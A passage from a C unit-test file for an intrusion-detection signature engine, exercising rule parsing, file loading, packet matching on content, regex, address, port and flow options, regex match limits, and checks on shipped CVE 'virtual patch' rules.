	size_t n;
	int i;

	n = (size_t)snprintf(rule, sizeof(rule), "%s(", H);
	for (i = 0; i < 65; i++)
		n += (size_t)snprintf(rule + n, sizeof(rule) - n, "content:\"a\";");
	snprintf(rule + n, sizeof(rule) - n, "sid:1;)");
	ck_assert_int_eq(vp_sig_set_add(set, rule, NULL, 1, collect_err, &e), -EINVAL);
	ck_assert_str_eq(e.msg[0], "too many payload keywords (max 64)");
	ck_assert_str_eq(e.file[0], "-");
	vp_sig_set_free(set);
}
END_TEST

START_TEST(test_rule_too_long)
{
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };
	size_t n = 70000;
	char *rule = malloc(n + 1);

	ck_assert_ptr_nonnull(rule);
	memset(rule, ' ', n);
	memcpy(rule, H "(sid:1;", strlen(H "(sid:1;"));
	rule[n - 1] = ')';
	rule[n] = '\0';
	ck_assert_int_eq(vp_sig_set_add(set, rule, "x", 1, collect_err, &e), -EINVAL);
	ck_assert_str_eq(e.msg[0], "rule too long");
	free(rule);
	vp_sig_set_free(set);
}
END_TEST

START_TEST(test_duplicate_sid)
{
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };

	ck_assert_int_eq(vp_sig_set_add(set, H "(sid:9;)", "a", 1, collect_err, &e), 0);
	ck_assert_int_eq(vp_sig_set_add(set, H "(sid:9; msg:\"again\";)", "a", 2, collect_err, &e),
			 -EEXIST);
	ck_assert_uint_eq(e.n, 1);
	ck_assert_str_eq(e.msg[0], "duplicate sid 9");
	ck_assert_uint_eq(e.line[0], 2);
	/* The same sid under another gid is another rule. */
	ck_assert_int_eq(vp_sig_set_add(set, H "(sid:9; gid:2;)", "a", 3, collect_err, &e), 0);
	ck_assert_int_eq(vp_sig_set_add(set, H "(gid:2; sid:9;)", "a", 4, collect_err, &e),
			 -EEXIST);
	ck_assert_str_eq(e.msg[1], "duplicate sid 2:9");
	ck_assert_uint_eq(vp_sig_set_count(set), 2);
	ck_assert_ptr_null(vp_sig_set_get(set, 0)->msg);
	vp_sig_set_free(set);
}
END_TEST

START_TEST(test_many_sids)
{
	struct vp_sig_set *set = test_set();
	char rule[128];
	uint32_t i;

	for (i = 1; i <= 3000; i++) {
		snprintf(rule, sizeof(rule), H "(sid:%u; content:\"k%u\";)", i, i);
		ck_assert_int_eq(vp_sig_set_add(set, rule, "m", i, NULL, NULL), 0);
	}
	snprintf(rule, sizeof(rule), H "(sid:%u;)", 1777u);
	ck_assert_int_eq(vp_sig_set_add(set, rule, "m", 1, NULL, NULL), -EEXIST);
	ck_assert_uint_eq(vp_sig_set_count(set), 3000);
	ck_assert_uint_eq(vp_sig_set_get(set, 2999)->sid, 3000);
	ck_assert_int_eq(vp_sig_set_compile(set, NULL, NULL), 0);
	vp_sig_set_free(set);
}
END_TEST

START_TEST(test_classtypes)
{
	static const struct { const char *name, *desc; int prio; } want[] = {
		{ "web-application-attack", "Web Application Attack", 1 },
		{ "attempted-admin", "Attempted Administrator Privilege Gain", 1 },
		{ "trojan-activity", "A Network Trojan was detected", 1 },
		{ "misc-activity", "Misc activity", 3 },
		{ "attempted-recon", "Attempted Information Leak", 2 },
		{ "bad-unknown", "Potentially Bad Traffic", 2 },
		{ "policy-violation", "Potential Corporate Privacy Violation", 1 },
		{ "attempted-user", "Attempted User Privilege Gain", 1 },
		{ "attempted-dos", "Attempted Denial of Service", 2 },
		{ "protocol-command-decode", "Generic Protocol Command Decode", 3 },
		{ "tcp-connection", "A TCP connection was detected", 4 },
		{ "command-and-control", "Malware Command and Control Activity Detected", 1 },
	};
	const struct vp_classtype *ct;
	size_t i, j;

	for (i = 0; i < sizeof(want) / sizeof(want[0]); i++) {
		ct = vp_classtype_find(want[i].name);
		ck_assert_ptr_nonnull(ct);
		ck_assert_str_eq(ct->desc, want[i].desc);
		ck_assert_int_eq(ct->priority, want[i].prio);
	}
	ck_assert_ptr_null(vp_classtype_find("Web-Application-Attack"));
	ck_assert_ptr_null(vp_classtype_find(NULL));
	ck_assert_uint_ge(vp_classtype_count(), 38);
	ck_assert_ptr_null(vp_classtype_get(vp_classtype_count()));
	for (i = 0; i < vp_classtype_count(); i++)
		for (j = i + 1; j < vp_classtype_count(); j++)
			ck_assert_str_ne(vp_classtype_get(i)->name, vp_classtype_get(j)->name);
}
END_TEST

/* ---- loading files ---- */

static char tmpdir[64];

static void make_tmpdir(void)
{
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/test_rules.XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(tmpdir));
}

static void write_file(const char *name, const char *text, size_t len)
{
	char path[256];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", tmpdir, name);
	f = fopen(path, "w");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(fwrite(text, 1, len, f), len);
	ck_assert_int_eq(fclose(f), 0);
}

/* Removes tmpdir and what the tests put in it (files, empty directories). */
static void rm_tmpdir(void)
{
	struct dirent *d;
	char path[512];
	DIR *dir = opendir(tmpdir);

	ck_assert_ptr_nonnull(dir);
	while ((d = readdir(dir))) {
		if (strcmp(d->d_name, ".") == 0 || strcmp(d->d_name, "..") == 0)
			continue;
		snprintf(path, sizeof(path), "%s/%s", tmpdir, d->d_name);
		if (unlink(path) < 0)
			ck_assert_int_eq(rmdir(path), 0);
	}
	closedir(dir);
	ck_assert_int_eq(rmdir(tmpdir), 0);
}

/* Appends <s> at text[*n] (room checked by the caller's sizing). */
static void put(char *text, size_t *n, const char *s)
{
	size_t l = strlen(s);

	memcpy(text + *n, s, l);
	*n += l;
}

static const char load_text[] =
	"# comment line 1\n"
	"\n"
	"alert tcp any any -> any any (msg:\"ok1\"; sid:1;)\n"
	"alert tcp any any -> any any (msg:\"bad\"; foo; sid:2;)\n"
	"alert tcp any any -> any any (msg:\"multi\"; \\\n"
	"  content:\"x\"; \\\n"
	"  sid:3;)\n"
	"alert tcp any any -> any any (msg:\"bad multi\"; \\\n"
	"  sid:0;)\n"
	"#alert tcp any any -> any any (sid:4;)\n"
	"   # indented comment \\\n"
	"alert tcp any any -> any any (msg:\"crlf\"; \\\r\n"
	"  sid:5;)\r\n"
	"\t\n"
	"alert tcp any any -> any any (sid:1;)\n"
	"alert tcp any any -> any any (sid:6;)";

START_TEST(test_load_file)
{
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };
	char path[256];

	make_tmpdir();
	write_file("t.rules", load_text, strlen(load_text));
	snprintf(path, sizeof(path), "%s/t.rules", tmpdir);
	ck_assert_int_eq(vp_sig_set_load_path(set, path, collect_err, &e), 3);
	ck_assert_uint_eq(e.n, 3);
	ck_assert_uint_eq(e.line[0], 4);
	ck_assert_str_eq(e.msg[0], "unsupported keyword 'foo'");
	ck_assert_str_eq(e.file[0], path);
	ck_assert_uint_eq(e.line[1], 8);
	ck_assert_str_eq(e.msg[1], "bad sid '0'");
	ck_assert_uint_eq(e.line[2], 15);
	ck_assert_str_eq(e.msg[2], "duplicate sid 1");
	ck_assert_uint_eq(vp_sig_set_count(set), 4);
	ck_assert_uint_eq(vp_sig_set_get(set, 0)->sid, 1);
	ck_assert_uint_eq(vp_sig_set_get(set, 0)->line, 3);
	ck_assert_uint_eq(vp_sig_set_get(set, 1)->sid, 3);
	ck_assert_uint_eq(vp_sig_set_get(set, 1)->line, 5);
	ck_assert_str_eq(vp_sig_set_get(set, 1)->msg, "multi");
	ck_assert_str_eq(vp_sig_set_get(set, 1)->file, path);
	ck_assert_uint_eq(vp_sig_set_get(set, 2)->sid, 5);
	ck_assert_uint_eq(vp_sig_set_get(set, 2)->line, 12);
	ck_assert_uint_eq(vp_sig_set_get(set, 3)->sid, 6);
	ck_assert_uint_eq(vp_sig_set_get(set, 3)->line, 16);
	rm_tmpdir();
	vp_sig_set_free(set);
}
END_TEST

START_TEST(test_load_long_lines)
{
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };
	size_t big = 70000, n = 0;
	char path[256], *text = malloc(3 * big);

	ck_assert_ptr_nonnull(text);
	put(text, &n, "alert tcp any any -> any any (sid:1;)\n");
	memset(text + n, 'a', big);		/* line 2: one physical line too long */
	n += big;
	text[n++] = '\n';
	put(text, &n, "alert tcp any any -> any any (sid:2; \\\n");	/* line 3 */
	memset(text + n, ' ', 40000);		/* line 4: fits alone, not joined */
	n += 40000;
	put(text, &n, "\\\n");
	memset(text + n, ' ', 40000);		/* line 5 */
	n += 40000;
	put(text, &n, ")\n");
	put(text, &n, "alert tcp any any -> any any (sid:3;)\n");	/* line 6 */
	put(text, &n, "alert tcp any any -> any any (sid:4;)");	/* line 7: a NUL byte */
	memcpy(text + n, "\0junk\n", 6);
	n += 6;
	put(text, &n, "alert tcp any any -> any any (sid:5;)\n");	/* line 8 */
	memcpy(text + n, "# a comment\0with a NUL\n", 23);		/* line 9: skipped */
	n += 23;
	put(text, &n, "alert tcp any any -> any any (sid:6;)\n");	/* line 10 */
	make_tmpdir();
	write_file("long.rules", text, n);
	snprintf(path, sizeof(path), "%s/long.rules", tmpdir);
	ck_assert_int_eq(vp_sig_set_load_path(set, path, collect_err, &e), 3);
	ck_assert_uint_eq(e.n, 3);
	ck_assert_uint_eq(e.line[0], 2);
	ck_assert_str_eq(e.msg[0], "rule too long");
	ck_assert_uint_eq(e.line[1], 3);
	ck_assert_str_eq(e.msg[1], "rule too long");
	ck_assert_uint_eq(e.line[2], 7);
	ck_assert_str_eq(e.msg[2], "NUL byte in rule");
	ck_assert_uint_eq(vp_sig_set_count(set), 4);
	ck_assert_uint_eq(vp_sig_set_get(set, 1)->sid, 3);
	ck_assert_uint_eq(vp_sig_set_get(set, 1)->line, 6);
	ck_assert_uint_eq(vp_sig_set_get(set, 2)->line, 8);
	ck_assert_uint_eq(vp_sig_set_get(set, 3)->line, 10);
	free(text);
	rm_tmpdir();
	vp_sig_set_free(set);
}
END_TEST

START_TEST(test_load_dir)
{
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };
	char path[256];
	const char *b = "alert tcp any any -> any any (sid:2;)\n";
	const char *a = "alert tcp any any -> any any (sid:1;)\nalert tcp any any -> any any (x)\n";
	const char *c = "alert tcp any any -> any any (sid:3;)\n";

	make_tmpdir();
	write_file("b.rules", b, strlen(b));
	write_file("a.rules", a, strlen(a));
	write_file("c.txt", c, strlen(c));
	write_file(".rules", c, strlen(c));
	snprintf(path, sizeof(path), "%s/d.rules", tmpdir);
	ck_assert_int_eq(mkdir(path, 0700), 0);
	ck_assert_int_eq(vp_sig_set_load_path(set, tmpdir, collect_err, &e), 1);
	ck_assert_uint_eq(e.n, 1);
	ck_assert_str_eq(e.msg[0], "unsupported keyword 'x'");
	ck_assert_uint_eq(e.line[0], 2);
	snprintf(path, sizeof(path), "%s/a.rules", tmpdir);
	ck_assert_str_eq(e.file[0], path);
	ck_assert_uint_eq(vp_sig_set_count(set), 2);
	ck_assert_uint_eq(vp_sig_set_get(set, 0)->sid, 1);
	ck_assert_str_eq(vp_sig_set_get(set, 0)->file, path);
	ck_assert_uint_eq(vp_sig_set_get(set, 1)->sid, 2);
	rm_tmpdir();
	vp_sig_set_free(set);
}
END_TEST

START_TEST(test_load_missing)
{
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };

	ck_assert_int_eq(vp_sig_set_load_path(set, "/nonexistent/x.rules", collect_err, &e),
			 -ENOENT);
	ck_assert_uint_eq(e.n, 1);
	ck_assert_uint_eq(e.line[0], 0);
	ck_assert_str_eq(e.file[0], "/nonexistent/x.rules");
	ck_assert_str_eq(e.msg[0], "cannot open: No such file or directory");
	ck_assert_int_eq(vp_sig_set_load_path(set, "/dev/null", NULL, NULL), -EINVAL);
	ck_assert_uint_eq(vp_sig_set_count(set), 0);
	vp_sig_set_free(set);
}
END_TEST

/* ---- matching ---- */

#define FL_TS (VP_PKT_TO_SERVER | VP_PKT_ESTABLISHED | VP_PKT_HAS_FLOW)
#define FL_TC (VP_PKT_TO_CLIENT | VP_PKT_ESTABLISHED | VP_PKT_HAS_FLOW)

struct pkt_spec {
	uint8_t proto;
	const char *src;
	uint16_t sport;
	const char *dst;
	uint16_t dport;
	uint32_t flags;
	const char *payload;
	uint32_t anomalies;
};

#define TCP(pl) { 6, "192.0.2.1", 40000, "10.0.0.5", 80, FL_TS, pl, 0 }

static void make_addr(struct vp_addr *a, const char *s)
{
	memset(a, 0, sizeof(*a));
	a->family = strchr(s, ':') ? AF_INET6 : AF_INET;
	ck_assert_int_eq(inet_pton(a->family, s, a->a), 1);
}

static void make_packet(struct vp_packet *p, const struct pkt_spec *s)
{
	memset(p, 0, sizeof(*p));
	make_addr(&p->src, s->src);
	make_addr(&p->dst, s->dst);
	p->ip_version = p->src.family == AF_INET ? 4 : 6;
	p->proto = s->proto;
	p->sport = s->sport;
	p->dport = s->dport;
	p->flow_flags = s->flags;
	p->anomalies = s->anomalies;
	p->payload.ptr = (const uint8_t *)s->payload;
	p->payload.len = strlen(s->payload);
}

struct hits {
	char buf[256];
	size_t len;
	unsigned stop_after;	/* 0: never stop */
	unsigned n;
};

static bool collect_hit(void *ctx, const struct vp_sig *sig)
{
	struct hits *h = ctx;

	h->len += (size_t)snprintf(h->buf + h->len, sizeof(h->buf) - h->len, "%s%u",
				   h->len ? "," : "", sig->sid);
	h->n++;
	return h->stop_after == 0 || h->n < h->stop_after;
}

static const struct match_case {
	const char *rules[4];
	struct pkt_spec pkt;
	const char *want;
} match_cases[] = {
	/* content */
	{ { H "(content:\"abc\"; sid:1;)" }, TCP("xxabcxx"), "1" },
	{ { H "(content:\"abc\"; sid:1;)" }, TCP("xxabxcx"), "" },
	{ { H "(content:\"abc\"; sid:1;)" }, TCP("xxABCxx"), "" },
	{ { H "(content:\"abc\"; sid:1;)" }, TCP(""), "" },
	{ { H "(sid:1;)" }, TCP(""), "1" },
	{ { H "(content:\"GET\"; content:!\"evil\"; sid:1;)" }, TCP("GET /good"), "1" },
	{ { H "(content:\"GET\"; content:!\"evil\"; sid:1;)" }, TCP("GET /evil"), "" },
	{ { H "(content:!\"evil\"; sid:1;)" }, TCP(""), "" },
	{ { H "(content:\"SeLeCt\"; nocase; sid:1;)" }, TCP("x sElEcT y"), "1" },
	{ { H "(content:\"SeLeCt\"; sid:1;)" }, TCP("x select y"), "" },
	{ { H "(content:\"abcab\"; nocase; sid:1;)" }, TCP("ABCAABCAB"), "1" },
	{ { H "(content:\"abcab\"; nocase; sid:1;)" }, TCP("ABCAABCA"), "" },
	{ { H "(content:\"%2E/x\"; nocase; sid:1;)" }, TCP("a%2e/Xb"), "1" },
	{ { H "(content:\"%2E/x\"; nocase; sid:1;)" }, TCP("%2e-x%2E/X"), "1" },
	{ { H "(content:\"%2E/x\"; nocase; sid:1;)" }, TCP("%2E/"), "" },
	{ { H "(content:\"%2E/x\"; nocase; sid:1;)" }, TCP("%2e/y%2E/"), "" },
	{ { H "(content:\"x/%\"; nocase; sid:1;)" }, TCP("X/%"), "1" },
	{ { H "(content:\"|41 42|C\"; sid:1;)" }, TCP("xABCx"), "1" },
	{ { H "(content:\"|41 42|C\"; sid:1;)" }, TCP("xABcx"), "" },
	{ { H "(content:\"a\\;b\\\"c\\\\d\"; sid:1;)" }, TCP("-a;b\"c\\d-"), "1" },
	{ { H "(content:\"one\"; content:\"two\"; sid:1;)" }, TCP("two one"), "1" },
	{ { H "(content:\"one\"; content:\"two\"; sid:1;)" }, TCP("one three"), "" },
	/* pcre */
	{ { H "(pcre:\"/a.c/\"; sid:1;)" }, TCP("zabcz"), "1" },
	{ { H "(pcre:\"/A.C/\"; sid:1;)" }, TCP("zabcz"), "" },
	{ { H "(pcre:\"/A.C/i\"; sid:1;)" }, TCP("zabcz"), "1" },
	{ { H "(pcre:!\"/x/\"; sid:1;)" }, TCP("abc"), "1" },
	{ { H "(pcre:!\"/b/\"; sid:1;)" }, TCP("abc"), "" },
	{ { H "(pcre:\"/^b/m\"; sid:1;)" }, TCP("a\nb"), "1" },
	{ { H "(pcre:\"/^b/\"; sid:1;)" }, TCP("a\nb"), "" },
	{ { H "(pcre:\"/a\\;b/\"; sid:1;)" }, TCP("a;b"), "1" },
	/* R: relative to the end of the previous match, with backtracking */
	{ { H "(content:\"user=\"; pcre:\"/^admin/R\"; sid:1;)" }, TCP("user=admin"), "1" },
	{ { H "(content:\"user=\"; pcre:\"/^admin/R\"; sid:1;)" }, TCP("admin user=bob"), "" },
	{ { H "(content:\"user=\"; pcre:\"/^admin/R\"; sid:1;)" }, TCP("user=bob&user=admin"),
	  "1" },
	{ { H "(content:\"user=\"; pcre:\"/admin/R\"; sid:1;)" }, TCP("admin&user=bob"), "" },
	{ { H "(content:\"k=\"; pcre:!\"/^x/R\"; sid:1;)" }, TCP("k=y"), "1" },
	{ { H "(content:\"k=\"; pcre:!\"/^x/R\"; sid:1;)" }, TCP("k=x"), "" },
	{ { H "(pcre:\"/a+/\"; pcre:\"/^b/R\"; sid:1;)" }, TCP("xaab"), "1" },
	{ { H "(pcre:\"/a+/\"; pcre:\"/^b/R\"; sid:1;)" }, TCP("xaacb"), "" },
	/* addresses */
	{ { "alert tcp [10.0.0.0/8,!10.1.0.0/16] any -> any any (sid:1;)" },
	  { 6, "10.2.3.4", 1, "192.0.2.9", 2, 0, "", 0 }, "1" },
	{ { "alert tcp [10.0.0.0/8,!10.1.0.0/16] any -> any any (sid:1;)" },
	  { 6, "10.1.2.3", 1, "192.0.2.9", 2, 0, "", 0 }, "" },
	{ { "alert tcp [10.0.0.0/8,!10.1.0.0/16] any -> any any (sid:1;)" },
	  { 6, "192.0.2.1", 1, "192.0.2.9", 2, 0, "", 0 }, "" },
	{ { "alert tcp $EXTERNAL_NET any -> $HOME_NET any (sid:1;)" }, TCP(""), "1" },
	{ { "alert tcp $EXTERNAL_NET any -> $HOME_NET any (sid:1;)" },
	  { 6, "192.168.1.1", 1, "10.0.0.5", 80, 0, "", 0 }, "" },
	{ { "alert tcp $NESTED any -> any any (sid:1;)" },
	  { 6, "10.9.1.1", 1, "10.0.0.5", 80, 0, "", 0 }, "" },
	{ { "alert tcp $NESTED any -> any any (sid:1;)" },
	  { 6, "10.8.1.1", 1, "10.0.0.5", 80, 0, "", 0 }, "1" },
	{ { "alert tcp [!1.2.3.4] any -> any any (sid:1;)" },
	  { 6, "1.2.3.5", 1, "10.0.0.5", 80, 0, "", 0 }, "1" },
	{ { "alert tcp [!1.2.3.4] any -> any any (sid:1;)" },
	  { 6, "1.2.3.4", 1, "10.0.0.5", 80, 0, "", 0 }, "" },
	{ { "alert tcp ![1.2.3.4,5.6.7.0/24] any -> any any (sid:1;)" },
	  { 6, "5.6.7.8", 1, "10.0.0.5", 80, 0, "", 0 }, "" },
	{ { "alert tcp ![1.2.3.4,5.6.7.0/24] any -> any any (sid:1;)" },
	  { 6, "5.6.8.8", 1, "10.0.0.5", 80, 0, "", 0 }, "1" },
	{ { "alert tcp [10.0.0.0/8,![10.1.0.0/16,!10.1.2.0/24]] any -> any any (sid:1;)" },
	  { 6, "10.1.2.3", 1, "10.0.0.5", 80, 0, "", 0 }, "1" },
	{ { "alert tcp [10.0.0.0/8,![10.1.0.0/16,!10.1.2.0/24]] any -> any any (sid:1;)" },
	  { 6, "10.1.3.3", 1, "10.0.0.5", 80, 0, "", 0 }, "" },
	{ { "alert tcp 10.0.0.1/8 any -> any any (sid:1;)" },
	  { 6, "10.200.0.1", 1, "10.0.0.5", 80, 0, "", 0 }, "1" },
	{ { "alert tcp $V6NET any -> any any (sid:1;)" },
	  { 6, "2001:db8:2::1", 1, "2001:db8::5", 80, 0, "", 0 }, "1" },
	{ { "alert tcp $V6NET any -> any any (sid:1;)" },
	  { 6, "2001:db8:1::1", 1, "2001:db8::5", 80, 0, "", 0 }, "" },
	{ { "alert tcp $V6NET any -> any any (sid:1;)" },
	  { 6, "2001:db9::1", 1, "2001:db8::5", 80, 0, "", 0 }, "" },
	{ { "alert tcp $V6NET any -> any any (sid:1;)" },
	  { 6, "10.0.0.1", 1, "10.0.0.5", 80, 0, "", 0 }, "" },
	{ { "alert tcp [::ffff:0:0/96,fe80::/10] any -> any any (sid:1;)" },
	  { 6, "fe80::1", 1, "2001:db8::5", 80, 0, "", 0 }, "1" },
	/* ports */
	{ { "alert tcp any 1024: -> any [80,8000:8100,!8050] (sid:1;)" },
	  { 6, "192.0.2.1", 40000, "10.0.0.5", 8080, 0, "", 0 }, "1" },
	{ { "alert tcp any 1024: -> any [80,8000:8100,!8050] (sid:1;)" },
	  { 6, "192.0.2.1", 40000, "10.0.0.5", 8050, 0, "", 0 }, "" },
	{ { "alert tcp any 1024: -> any [80,8000:8100,!8050] (sid:1;)" },
	  { 6, "192.0.2.1", 1023, "10.0.0.5", 80, 0, "", 0 }, "" },
	{ { "alert tcp any :1023 -> any !$HTTP_PORTS (sid:1;)" },
	  { 6, "192.0.2.1", 0, "10.0.0.5", 443, 0, "", 0 }, "1" },
	{ { "alert tcp any :1023 -> any !$HTTP_PORTS (sid:1;)" },
	  { 6, "192.0.2.1", 0, "10.0.0.5", 8080, 0, "", 0 }, "" },
	{ { "alert udp any any -> any [53,5353] (sid:1;)" },
	  { 17, "192.0.2.1", 3333, "10.0.0.5", 5353, 0, "", 0 }, "1" },
	/* direction */
	{ { "alert tcp 10.0.0.5 80 <> 192.0.2.1 any (sid:1;)" }, TCP(""), "1" },
	{ { "alert tcp 10.0.0.5 80 -> 192.0.2.1 any (sid:1;)" }, TCP(""), "" },
	{ { "alert tcp 10.0.0.5 81 <> 192.0.2.1 any (sid:1;)" }, TCP(""), "" },
	/* flow */
	{ { H "(flow:to_server; sid:1;)" }, TCP(""), "1" },
	{ { H "(flow:from_server; sid:1;)" }, TCP(""), "" },
	{ { H "(flow:to_client,established; sid:1;)" },
	  { 6, "10.0.0.5", 80, "192.0.2.1", 40000, FL_TC, "", 0 }, "1" },
	{ { H "(flow:established; sid:1;)" },
	  { 6, "10.0.0.5", 80, "192.0.2.1", 40000, VP_PKT_TO_SERVER, "", 0 }, "" },
	{ { H "(flow:not_established; sid:1;)" },
	  { 6, "10.0.0.5", 80, "192.0.2.1", 40000, VP_PKT_TO_SERVER, "", 0 }, "1" },
	{ { H "(flow:not_established; sid:1;)" }, TCP(""), "" },
	{ { H "(flow:stateless; sid:1;)" }, { 6, "10.0.0.5", 80, "192.0.2.1", 4, 0, "", 0 }, "1" },
	{ { H "(flow:to_server; sid:1;)" }, { 6, "10.0.0.5", 80, "192.0.2.1", 4, 0, "", 0 }, "" },
	/* protocols */
	{ { "alert udp any any -> any any (sid:1;)" }, TCP(""), "" },
	{ { "alert ip any any -> any any (sid:1;)", "alert udp any any -> any any (sid:2;)" },
	  { 17, "192.0.2.1", 1, "10.0.0.5", 2, 0, "x", 0 }, "1,2" },
	{ { "alert icmp any any -> any any (sid:1;)", "alert tcp any any -> any any (sid:2;)" },
	  { 58, "2001:db8::1", 0, "2001:db8::2", 0, 0, "x", 0 }, "1" },
	{ { "alert icmp any any -> any any (sid:1;)" },
	  { 1, "192.0.2.1", 0, "10.0.0.5", 0, 0, "x", 0 }, "1" },
	{ { "alert tcp any any -> any any (sid:1;)", "alert ip any any -> any any (sid:2;)" },
	  { 6, "192.0.2.1", 0, "10.0.0.5", 0, 0, "x", VP_ANOM_IP_FRAGMENT }, "2" },
	{ { "alert ip any any -> any any (content:\"x\"; sid:1;)" },
	  { 47, "192.0.2.1", 0, "10.0.0.5", 0, 0, "gre x", 0 }, "1" },
	{ { "alert http any any -> any 80 (content:\"GET\"; sid:1;)" }, TCP("GET /"), "1" },
	/* action order: pass, drop, reject, alert; then priority; then load order */
	{ { H "(content:\"x\"; sid:1;)", "drop tcp any any -> any any (content:\"x\"; sid:2;)",
	    "reject tcp any any -> any any (content:\"x\"; sid:3;)",
	    "drop tcp any any -> any any (content:\"x\"; sid:4; priority:1;)" },
	  TCP("x"), "4,2,3,1" },
	{ { H "(content:\"x\"; sid:1;)", "pass tcp any any -> any any (content:\"x\"; sid:2;)",
	    "drop tcp any any -> any any (content:\"x\"; sid:3;)" },
	  TCP("x"), "" },
	{ { H "(content:\"x\"; sid:1;)", "pass tcp any any -> any any (content:\"y\"; sid:2;)",
	    "drop tcp any any -> any any (content:\"x\"; sid:3;)" },
	  TCP("x"), "3,1" },
	{ { "pass udp any any -> any any (sid:2;)", "drop tcp any any -> any any (sid:3;)" },
	  TCP("x"), "3" },
};

START_TEST(test_match)
{
	const struct match_case *tc = &match_cases[_i];
	struct vp_sig_set *set = test_set();
	struct hits h = { .len = 0 };
	struct vp_sig_thread *th;
	struct errs e = { 0 };
	struct vp_packet p;
	unsigned n;
	size_t i;

	for (i = 0; i < 4 && tc->rules[i]; i++)
		ck_assert_int_eq(vp_sig_set_add(set, tc->rules[i], "m", (unsigned)i + 1,
						collect_err, &e), 0);
	ck_assert_uint_eq(e.n, 0);
	ck_assert_int_eq(vp_sig_set_compile(set, collect_err, &e), 0);
	th = vp_sig_thread_new(set);
	ck_assert_ptr_nonnull(th);
	make_packet(&p, &tc->pkt);
	n = vp_sig_match_packet(set, th, &p, collect_hit, &h);
	ck_assert_str_eq(h.buf, tc->want);
	ck_assert_uint_eq(n, h.n);
	vp_sig_thread_free(th);
	vp_sig_set_free(set);
}
END_TEST

START_TEST(test_match_stop_and_guards)
{
	static const struct pkt_spec spec = TCP("x");
	struct vp_sig_set *set = test_set();
	struct hits h = { .stop_after = 1 };
	struct vp_sig_thread *th;
	struct vp_packet p;

	ck_assert_int_eq(vp_sig_set_add(set, H "(sid:1;)", "m", 1, NULL, NULL), 0);
	ck_assert_int_eq(vp_sig_set_add(set, H "(sid:2;)", "m", 2, NULL, NULL), 0);
	th = vp_sig_thread_new(set);
	ck_assert_ptr_nonnull(th);
	make_packet(&p, &spec);
	/* Not compiled yet: nothing matches. */
	ck_assert_uint_eq(vp_sig_match_packet(set, th, &p, collect_hit, &h), 0);
	ck_assert_int_eq(vp_sig_set_compile(set, NULL, NULL), 0);
	ck_assert_uint_eq(vp_sig_match_packet(set, th, &p, collect_hit, &h), 1);
	ck_assert_str_eq(h.buf, "1");
	ck_assert_uint_eq(vp_sig_match_packet(set, th, &p, NULL, NULL), 2);
	p.ip_version = 0;	/* no valid IP header */
	ck_assert_uint_eq(vp_sig_match_packet(set, th, &p, NULL, NULL), 0);
	/* Adding a rule un-compiles the set until the next compile. */
	p.ip_version = 4;
	ck_assert_int_eq(vp_sig_set_add(set, H "(sid:3;)", "m", 3, NULL, NULL), 0);
	ck_assert_uint_eq(vp_sig_match_packet(set, th, &p, NULL, NULL), 0);
	ck_assert_int_eq(vp_sig_set_compile(set, NULL, NULL), 0);
	ck_assert_uint_eq(vp_sig_match_packet(set, th, &p, NULL, NULL), 3);
	vp_sig_thread_free(th);
	vp_sig_set_free(set);
	vp_sig_set_free(NULL);
	vp_sig_thread_free(NULL);
}
END_TEST

/* A pathological regex hits the match limit: no match, no hang. */
START_TEST(test_pcre_limits)
{
	struct vp_sig_set *set = test_set();
	struct vp_sig_thread *th;
	struct vp_packet p;
	struct pkt_spec spec = TCP("");
	char payload[4096];

	memset(payload, 'a', sizeof(payload) - 3);
	payload[sizeof(payload) - 3] = 'b';
	payload[sizeof(payload) - 2] = 'c';
	payload[sizeof(payload) - 1] = '\0';
	spec.payload = payload;
	ck_assert_int_eq(vp_sig_set_add(set, H "(pcre:\"/(a+)+c/\"; sid:1;)", "m", 1, NULL, NULL),
			 0);
	ck_assert_int_eq(vp_sig_set_compile(set, NULL, NULL), 0);
	th = vp_sig_thread_new(set);
	ck_assert_ptr_nonnull(th);
	make_packet(&p, &spec);
	ck_assert_uint_eq(vp_sig_match_packet(set, th, &p, NULL, NULL), 0);
	vp_sig_thread_free(th);
	vp_sig_set_free(set);
}
END_TEST

/* ---- the shipped virtual patches ---- */

static struct vp_sig_set *shipped_set(void)
{
	const char *srcdir = getenv("srcdir");
	struct vp_vars *v = vp_vars_new();
	struct vp_sig_set *set;
	struct errs e = { 0 };
	char path[1024];

	ck_assert_ptr_nonnull(v);
	ck_assert_int_eq(vp_vars_set(v, "HOME_NET", "any"), 0);
	ck_assert_int_eq(vp_vars_set(v, "EXTERNAL_NET", "any"), 0);
	ck_assert_int_eq(vp_vars_set(v, "HTTP_PORTS", "[80,8080]"), 0);
	set = vp_sig_set_new(v);
	vp_vars_free(v);
	ck_assert_ptr_nonnull(set);
	snprintf(path, sizeof(path), "%s/signatures/rules", srcdir ? srcdir : ".");
	ck_assert_int_eq(vp_sig_set_load_path(set, path, collect_err, &e), 0);
	if (e.n)
		ck_abort_msg("%s:%u: %s", e.file[0], e.line[0], e.msg[0]);
	ck_assert_int_eq(vp_sig_set_compile(set, collect_err, &e), 0);
	return set;
}

START_TEST(test_shipped_load)
{
	struct vp_sig_set *set = shipped_set();
	const struct vp_sig *sig;
	size_t i;

	ck_assert_uint_ge(vp_sig_set_count(set), 10);
	ck_assert_uint_le(vp_sig_set_count(set), 30);
	for (i = 0; i < vp_sig_set_count(set); i++) {
		sig = vp_sig_set_get(set, i);
		ck_assert_uint_ge(sig->sid, 1000001);
		ck_assert_uint_lt(sig->sid, 1100000);
		ck_assert_uint_ge(sig->rev, 1);
		ck_assert_int_eq(sig->action, VP_ACT_DROP);
		ck_assert_ptr_nonnull(sig->msg);
		ck_assert_ptr_nonnull(strstr(sig->msg, "(CVE-"));
		ck_assert_ptr_nonnull(sig->category);
		ck_assert_ptr_nonnull(sig->metadata_json);
		ck_assert_ptr_nonnull(strstr(sig->metadata_json, "{\"cve\":[\"CVE-"));
		ck_assert_ptr_nonnull(strstr(sig->metadata_json, "\"affected_package\":[\""));
		ck_assert_ptr_nonnull(strstr(sig->metadata_json, "\"affected_versions\":[\""));
		ck_assert_ptr_nonnull(strstr(sig->metadata_json, "\"fixed_version\":[\""));
	}
